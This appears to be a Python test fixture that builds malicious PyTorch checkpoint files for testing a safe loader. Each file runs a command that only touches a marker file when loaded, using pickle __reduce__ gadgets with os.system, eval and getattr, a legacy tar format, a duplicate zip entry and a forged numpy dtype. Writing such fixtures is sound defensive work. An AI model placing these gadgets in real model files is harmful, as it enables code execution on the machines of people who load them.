"""Checkpoints that try to run something: each writes a marker file if it succeeds."""

from __future__ import annotations

import builtins
import io
import os
import pickle
import tarfile
import zipfile

import numpy as np
import torch


class Calls:
    """Pickles as a call."""

    def __init__(self, function, *args):
        self.call = (function, args)

    def __reduce__(self):
        return self.call


def content(marker, function=os.system, argument=None):
    weights = dict(weight=torch.ones(1))
    return dict(state_dict=weights, meta=dict(x=Calls(function, argument or f"touch {marker}")))


def zipped(path, marker):
    torch.save(content(marker), path)


def legacy(path, marker):
    torch.save(content(marker), path, _use_new_zipfile_serialization=False)


def plain_pickle(path, marker):
    path.write_bytes(pickle.dumps(content(marker), protocol=4))


def tar(path, marker):
    """The format of torch before 0.1.10, a folder of pickles."""
    with tarfile.open(path, "w") as archive:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            data = pickle.dumps(Calls(os.system, f"touch {marker}"), protocol=2)
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))


def evaluated(path, marker):
    torch.save(content(marker, builtins.eval, f"open({str(marker)!r}, 'w')"), path)


def attribute(path, marker):
    """``getattr``, which is on mmengine's own list of safe functions."""
    torch.save(dict(meta=Calls(getattr, Calls(__import__, "os"), "system")), path)


def script(path, marker):
    """A TorchScript archive, which is code under the suffix of weights."""
    torch.jit.save(torch.jit.script(torch.nn.ReLU()), str(path))


def two_pickles(path, marker):
    """A sound checkpoint, whose archive has a second, hostile entry of the same name."""
    torch.save(dict(state_dict=dict(weight=torch.ones(1))), path)
    with zipfile.ZipFile(path) as archive:
        (name,) = [name for name in archive.namelist() if name.endswith("data.pkl")]
    hostile = pickle.dumps(content(marker), protocol=2)
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(name, hostile)


def address_as_object(path, marker):
    """A numpy dtype that reads bytes of the file as the address of an object."""
    dtype = Calls(np.dtype, "O", False, True)

    class Forged:
        def __reduce__(self):
            return np._core.multiarray._reconstruct, (np.ndarray, (0,), b"b"), state

    class Flagless:
        def __reduce__(self):
            return np.dtype, dtype.call[1], (3, "|", None, None, None, -1, -1, 0)

    state = (1, (1,), Flagless(), False, (64).to_bytes(8, "little"))
    torch.save(dict(meta=Forged()), path)


def objects(path, marker):
    torch.save(dict(meta=np.array([Calls(os.system, f"touch {marker}")], dtype=object)), path)


KINDS = {
    function.__name__: function
    for function in (
        zipped,
        legacy,
        plain_pickle,
        tar,
        evaluated,
        attribute,
        script,
        two_pickles,
        address_as_object,
        objects,
    )
}
